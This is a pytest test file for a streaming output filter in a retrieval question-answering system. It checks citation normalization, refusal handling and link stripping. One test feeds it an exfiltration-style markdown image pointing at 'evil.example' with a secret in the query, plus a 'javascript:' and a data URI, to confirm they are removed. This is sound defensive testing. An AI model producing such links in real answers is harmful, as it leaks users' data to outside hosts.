"""Only citations of given sources are shown, the same whether the output is read whole or as it comes."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragqa.answering.markers import SENTINEL, StreamFilter, claimed_quotes, lift, without_markers
from ragqa.answering.quotes import locate

BRACKETS = ["[", "]", "【", "】", "［", "］", "(", ")", "^", "†source"]
NUMBERS = [
    "1",
    "2",
    "9",
    "99",
    "٣",
    "³",
    "②",
    "₂",
    "❸",
    "０",
    ",",
    ", ",
    "-",
    "–",
    "to",
    "and",
    "、",
    ":",
    " ",
    "\n",
    "\r",
    "\u200b",
]
WORDS = [
    "source ",
    "来",
    "源",
    "来源",
    "foo",
    "bar.",
    "中文",
    "。",
    "| ",
    "http://",
    "a.example/x",
    "www.b.example",
    '"',
]
MARKS = ["<<<", "<<<QUOTES>>>", "QUOTES", ">>>", "**", SENTINEL, "NOT_", "IN_SOURCES"]
PIECES = st.sampled_from([*BRACKETS, *NUMBERS, *WORDS, *MARKS])
OUTPUT = st.lists(PIECES, max_size=25).map("".join)


def whole(output: str, count: int = 3, texts: tuple[str, ...] = ()) -> tuple[str, str, bool]:
    return piecewise([output], count, texts)


def piecewise(pieces: list[str], count: int = 3, texts: tuple[str, ...] = ()) -> tuple[str, str, bool]:
    shown = StreamFilter(count, texts)
    text = "".join([*map(shown.feed, pieces), shown.finish()])
    return text, shown.quotes, shown.refused


@settings(max_examples=400)
@given(OUTPUT, st.lists(st.integers(1, 4), max_size=80))
def test_what_is_shown_does_not_depend_on_how_the_output_comes(output: str, lengths: list[int]) -> None:
    pieces, position = [], 0
    for length in lengths:
        pieces.append(output[position : position + length])
        position += length
    assert piecewise([*pieces, output[position:]]) == whole(output)
    assert piecewise(list(output)) == whole(output)


@settings(max_examples=400)
@given(OUTPUT)
def test_no_number_that_was_not_given_is_ever_shown_as_a_citation(output: str) -> None:
    text, _, _ = whole(output)
    shown = re.findall(r"[\[［【〔]([\d\s,、;–^\u200b-]*\d[\d\s,、;–^\u200b-]*)[\]］】〕]", text.replace("\n", "|"))
    assert set(shown) <= {"1", "2", "3"}
    assert SENTINEL not in text
    assert not re.search(r"<<<QUOTES>>>", text)
    assert text == text.strip()


@given(OUTPUT)
def test_only_urls_of_the_sources_are_shown(output: str) -> None:
    assert not re.search(r"(http://|www\.)[a-z]", whole(output)[0])


@pytest.mark.parametrize(
    ("output", "shown"),
    [
        ("Rent is due [1]. It is 5 [1, 2].", "Rent is due [1]. It is 5 [1][2]."),
        ("房租每月一号缴【3】。", "房租每月一号缴[3]。"),
        ("a［１］ b [٣]", "a[1] b [3]"),
        ("a [1-9], b [3–1]", "a [1][2][3], b [3][1]"),
        ("a [1][1] [2] b [source 2] c [Sources 1 and 3] d [来源2]", "a [1][2] b [2] c [1][3] d [2]"),
        ("a [0] b [4], c [99].", "a b, c."),
        ("a [₁] b [₉₉], c [❷][⑴] d [㉑] e [⒊].", "a [1] b, c [2][1] d e [3]."),
        ("a[99]b c [99]d", "ab c d"),
        ("a [1] 500 [2]", "a [1] 500 [2]"),
        ("a [1[99]2] b [[3]]", "a [1][2] b [3]"),
        ("list [x] [ ] [see annex] [2024年]", "list [x] [ ] [see annex] [2024年]"),
        ("a [1†source] b 【2:0†source】", "a [1] b [2]"),
        ("a [Source: 2] b [source：9] c [2:9] d [来源: 9, 1].", "a [2] b c [2] d [1]."),
        ("a [99999999999999999999] b", "a b"),
        ("one\n\n[99] two", "one\n\ntwo"),
        ("cut off [1", "cut off [1"),
        (f"It is 5 [1]. {SENTINEL}", "It is 5 [1]."),
        ("one [1].\r\n\r\ntwo [2].\r\n", "one [1].\n\ntwo [2]."),
    ],
)
def test_citations_in_every_form_become_one_form(output: str, shown: str) -> None:
    assert whole(output) == (shown, "", False)


@pytest.mark.parametrize(
    "output", [SENTINEL, f"**{SENTINEL}**", f" {SENTINEL}. The sources say nothing.", "NOT\\_IN\\_SOURCES"]
)
def test_a_refusal_shows_nothing(output: str) -> None:
    assert whole(output) == ("", "", True)


def test_the_quotes_section_is_held_back_and_kept() -> None:
    output = 'Five days [1].\n\n**<<<QUOTES>>>**\n[1] "five days"\n'
    text, quotes, refused = piecewise(list(output))
    assert (text, refused) == ("Five days [1].", False)
    assert claimed_quotes(quotes) == {1: ["five days"]}


@pytest.mark.parametrize("url", ["https://例え.jp/leak", "HTTP://[::1]/leak"])
def test_no_address_with_a_host_in_other_letters_is_a_link(url: str) -> None:
    shown = StreamFilter(1, ["Read https://gate.example/rules first."])
    assert "://" not in "".join(map(shown.feed, f"Look at {url} now.")) + shown.finish()


def test_an_address_with_a_host_in_other_letters_that_a_source_has_stays() -> None:
    assert whole("见 https://例え.jp/a。", 1, ("见 https://例え.jp/a。",))[0] == "见 https://例え.jp/a。"


def test_a_url_of_the_sources_stays() -> None:
    texts = ("see https://a.example/x?y=1 for more",)
    assert whole("Go to https://a.example/x?y=1, now.", 1, texts)[0] == "Go to https://a.example/x?y=1, now."
    assert whole("![x](https://evil.example/?d=SECRET)", 1, texts)[0] == "![x]((link removed))"
    assert whole("see javascript:alert(1) and data:text/html;base64,AAAA", 1, texts)[0].count("(link removed)") == 2
    assert whole("data: 5, file: 6, at 10:30 a:b", 1)[0] == "data: 5, file: 6, at 10:30 a:b"


def test_text_is_shown_as_it_comes() -> None:
    shown = StreamFilter(2)
    pieces = ["The ten", "ant may ", "leave [", "1]. 中", "文", "句子【", "2】。ok"]
    # What is held back is the word that is being written, and a bracket until it is closed.
    assert [shown.feed(piece) for piece in pieces] == [
        "The",
        " tenant may",
        " leave",
        " [1]. 中",
        "文",
        "句子",
        "[2]。",
    ]
    assert shown.finish() == "ok"


@given(st.text(st.sampled_from("ab 1９[]【】［］,-\n中_<>"), max_size=30) | OUTPUT)
def test_a_source_without_markers_has_the_same_words_and_no_citation(text: str) -> None:
    text = text.replace("\r", "")
    plain = without_markers(text)
    assert re.sub(r"[^\w]|_", "", plain) == re.sub(r"[^\w]|_", "", text)
    shown = StreamFilter(3, [text, plain])
    assert shown.feed(plain + " end") + shown.finish() == (plain + " end").strip()
    assert not shown.refused and not shown.quotes


def test_a_quote_of_a_source_without_markers_is_found_in_the_source() -> None:
    source = "The library [12] opens at nine [Smith 2001]. 圖書館【3】九點開門。"
    assert without_markers(source) == "The library (12) opens at nine [Smith 2001]. 圖書館(3)九點開門。"
    assert locate(without_markers(source), source) == (0, len(source))


@given(OUTPUT)
def test_lifting_puts_every_citation_where_it_stood(output: str) -> None:
    text, _, _ = whole(output)
    bare, lifted = lift(text)
    assert [number for _, number in lifted] == [int(number) for number in re.findall(r"\[([123])\]", text)]
    assert "".join(bare.split()) == "".join(re.sub(r"\[[123]\]", "", text).split())
    assert all(0 <= offset <= len(bare) for offset, _ in lifted)


def test_claimed_quotes_are_read_in_the_forms_that_models_write() -> None:
    section = """
[1] "annual leave is 25 days"
- [2]: “二十五天”
3. 「特休假」
【4】 no marks at all
[1] "first" ... "second"
on the next line
Note without number
"""
    assert claimed_quotes(section) == {
        1: ["annual leave is 25 days", "first", "second"],
        2: ["二十五天"],
        3: ["特休假"],
        4: ["no marks at all"],
    }
    assert claimed_quotes('nothing\n[1] ""\n') == {}
    assert sum(map(len, claimed_quotes('[1] "x"\n' * 1000).values())) <= 64


@pytest.mark.parametrize(
    "output", ["[" * 20_000, "[1," * 7_000, "[1 " * 7_000 + "]" * 7_000, "<" * 20_000, "http://" * 3_000, "来" * 9_000]
)
def test_hostile_output_takes_no_time(output: str) -> None:
    started = time.process_time()
    whole(output)
    piecewise([output[i : i + 500] for i in range(0, len(output), 500)])
    without_markers(output)
    assert time.process_time() - started < 3
